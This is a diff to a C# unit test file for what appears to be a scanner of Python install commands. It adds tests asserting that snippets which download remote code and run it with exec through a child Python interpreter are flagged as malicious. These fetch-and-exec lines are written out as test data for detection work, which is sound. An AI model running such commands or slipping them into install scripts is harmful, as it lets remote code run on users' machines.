@@ -101,6 +101,22 @@ public class ChildInterpreterTests
         Has(Library($"import subprocess, sys\ndef update():\n    subprocess.run([sys.executable, '-c', \"{Fetch}\" % 'https://example.org/u'])\n"), "download-execute");
 
     [Fact]
+    public void F_string_command_with_sys_executable_is_download_execute() =>
+        Malicious(InstallCommand("import subprocess, sys",
+            "subprocess.check_call(f'{sys.executable} -c \"import urllib.request as r; exec(r.urlopen(\\'{SOURCE}\\').read())\"', shell=True)"));
+
+    [Fact]
+    public void Concatenated_command_line_with_sys_executable_is_download_execute() =>
+        Malicious(InstallCommand("import os, sys",
+            "os.popen(sys.executable + ' -c \"import requests; exec(requests.get(\\'%s\\').text)\"' % SOURCE).read()"));
+
+    [Fact]
+    public void Interpreter_found_at_run_time_is_read_as_python() =>
+        Malicious(InstallCommand("import shutil, subprocess",
+            "py = shutil.which('python3') or 'python'",
+            $"subprocess.run([py, '-u', '-c', \"{Fetch}\" % SOURCE], check=False)"));
+
+    [Fact]
     public void Pip_through_sys_executable_is_clean() =>
         Clean(InstallCommand("import subprocess, sys", "subprocess.run([sys.executable, '-m', 'pip', 'install', '--upgrade', 'wheel'], check=True)"));
 
